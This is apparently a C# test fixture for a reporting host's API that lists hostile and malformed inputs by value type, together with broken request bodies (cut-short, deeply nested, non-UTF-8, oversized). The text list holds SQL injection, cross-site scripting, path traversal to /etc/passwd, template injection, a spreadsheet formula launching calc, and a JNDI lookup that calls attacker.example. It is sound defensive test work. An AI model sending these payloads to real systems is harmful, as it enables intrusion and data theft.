using System.Text.Json.Nodes;

namespace ModularReports.Host.Tests.HostileInput;

/// <summary>What an attacker or a careless client sends instead of the expected value, by the kind of value expected.</summary>
internal static class HostileValues
{
    /// <summary>Text: empty, control and non-characters, bidi tricks, injection strings, path tricks, overlong text.</summary>
    public static readonly string[] Text =
    [
        "", " ", "\u0000", "a\u0007b", "x\u0085y", "\uFFFE", "\uFDD0", "\u202Eevil.exe", "\t\r\n",
        "' OR '1'='1' --", "\"; DROP TABLE users; --", "1; SELECT pg_sleep(5)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "../../../../etc/passwd", "%00", "%252e%252e%252f", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "=cmd|' /C calc'!A0",
        "😀🦜🌍", "Ɐ̴̡̤̟̮̓̓ͅ", "null", "undefined", "NaN", "-1", "9999999999999999999999999", "1e309",
        new string('a', 5_000), new string('é', 60_000),
    ];

    /// <summary>Whole numbers: out of range, negative, not a number at all.</summary>
    public static readonly string[] Integer = ["-1", "0", "2147483647", "2147483648", "-2147483649", "99999999999999999999", "1.5", "1e3", "abc", "", "0x10", "١٢"];

    public static readonly string[] Identifier =
        ["not-a-guid", "00000000-0000-0000-0000-000000000000", Guid.NewGuid().ToString(), "{" + Guid.NewGuid() + "}", "' OR 1=1", "", "../x", new string('f', 5_000)];

    public static readonly string[] Boolean = ["maybe", "2", "-1", "yes", "", "null"];

    public static readonly string[] Date = ["2024-13-45", "0000-00-00", "9999-12-31", "0001-01-01", "31/12/2024", "yesterday", "2024-02-30"];

    /// <summary>JSON values of the wrong type, for a property of any type.</summary>
    public static JsonNode?[] WrongTypes() =>
    [
        null, JsonValue.Create(true), JsonValue.Create(-1), JsonValue.Create(1e300), JsonValue.Create(long.MaxValue),
        new JsonObject { ["nested"] = new JsonObject() }, new JsonArray(JsonValue.Create("a"), JsonValue.Create(1)),
        new JsonArray([.. Enumerable.Range(0, 2_000).Select(_ => (JsonNode?)JsonValue.Create(Guid.NewGuid().ToString()))]),
    ];

    public const string Oversized = "larger than any form";

    /// <summary>Bodies that are not what any endpoint reads: not JSON, cut short, too deep, not UTF-8, too large.</summary>
    public static IEnumerable<(string Name, byte[] Body)> BrokenBodies()
    {
        static byte[] Utf8(string text) => System.Text.Encoding.UTF8.GetBytes(text);
        yield return ("not JSON", Utf8("not json at all"));
        yield return ("cut short", Utf8("{\"name\": \"abc"));
        yield return ("an array", Utf8("[1,2,3]"));
        yield return ("null", Utf8("null"));
        yield return ("a number out of range", Utf8("{\"version\": 1e999}"));
        yield return ("the same key twice", Utf8("{\"name\":\"a\",\"name\":\"b\"}"));
        yield return ("deeply nested", Utf8(new string('[', 5_000) + new string(']', 5_000)));
        yield return ("deep objects", Utf8(string.Concat(Enumerable.Repeat("{\"a\":", 500)) + "1" + new string('}', 500)));
        yield return ("not UTF-8", [.. Utf8("{\"name\":\"ab"), 0xFF, 0xFE, 0xC3, .. Utf8("\"}")]);
        yield return ("a lone surrogate escaped", Utf8("{\"name\":\"\\ud800\",\"json\":\"\\udfff\"}"));
        yield return ("a BOM and a NUL", [0xEF, 0xBB, 0xBF, .. Utf8("{\"name\":\"a\u0000\"}")]);
        yield return (Oversized, Utf8("{\"name\":\"" + new string('x', 3 * 1024 * 1024) + "\"}"));
    }
}
